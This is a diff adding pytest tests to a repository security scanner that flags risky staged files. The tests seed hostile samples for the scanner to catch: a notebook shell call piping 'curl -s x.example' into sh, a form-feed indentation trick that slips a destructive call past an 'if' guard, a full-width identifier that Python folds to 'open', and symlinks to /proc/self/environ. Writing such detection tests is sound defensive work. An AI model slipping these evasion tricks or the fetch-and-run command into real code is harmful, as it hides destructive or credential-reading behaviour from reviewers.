@@ -231,3 +231,48 @@ def test_configuration_that_runs_code_is_high(seeded: Repo, path: str, text: str
 def test_ipython_shell_calls_in_notebooks_are_dangerous(seeded: Repo) -> None:
     seeded.write("nb.ipynb", notebook("get_ipython().system('curl -s x.example | sh')\n"))
     assert "dangerous-calls" in categories(classes(explain(staged(seeded)))["nb.ipynb"])
+
+
+def test_a_form_feed_inside_indentation_blocks(seeded: Repo) -> None:
+    # Python restarts its column count at the form feed: the call runs outside the "if"
+    seeded.write("app/main.py", b"def main(user):\n    if user.is_superuser:\n"
+                                b"        grant()\n    \x0c    drop_everything()\n")
+    decision = check(staged(seeded))
+    assert "unicode-formfeed-indent" in sast_rules(decision)
+    assert decision.outcome is Outcome.BLOCK
+
+
+def test_a_full_width_name_python_folds_blocks(seeded: Repo) -> None:
+    fullwidth_open = "\uff4f\uff50\uff45\uff4e"  # NFKC: "open"
+    seeded.write("app/files.py", f"def read(path):\n    return {fullwidth_open}(path).read()\n"
+                                 "# \uff2f\uff2b: a full-width comment is fine\n")
+    decision = check(staged(seeded))
+    findings = [f for r in decision.results for f in r.findings
+                if f.rule == "unicode-normalised-identifier"]
+    assert [f.line for f in findings] == [2]
+    assert decision.outcome is Outcome.BLOCK
+
+
+def test_a_link_out_of_the_repository_is_high(seeded: Repo) -> None:
+    (seeded.root / "static").mkdir()
+    (seeded.root / "static" / "robots.txt").symlink_to("/proc/self/environ")
+    (seeded.root / "static" / "up.txt").symlink_to("../../outside.txt")
+    seeded.git("add", "static")
+    files = classes(explain(staged(seeded)))
+    assert files["static/robots.txt"].tier == "high"
+    assert files["static/up.txt"].tier == "high"
+
+
+@pytest.mark.parametrize("path", ["AGENTS.md", "CLAUDE.md", ".claude/settings.json", ".mcp.json",
+                                  ".github/copilot-instructions.md", ".cursor/rules/x.mdc",
+                                  "tox.toml", "meson.build", "CMakeLists.txt", "SConstruct"])
+def test_agent_instructions_and_build_scripts_are_high(seeded: Repo, path: str) -> None:
+    seeded.write(path, "x\n")
+    assert classes(explain(staged(seeded)))[path].tier == "high"
+
+
+@pytest.mark.parametrize("path", ["pixi.toml", "hatch.toml", "poetry.toml", "environment.yml",
+                                  "scripts/run.py.lock"])
+def test_installer_configuration_is_a_dependency_file(seeded: Repo, path: str) -> None:
+    seeded.write(path, "x = 1\n")
+    assert "dependencies" in categories(classes(explain(staged(seeded)))[path])
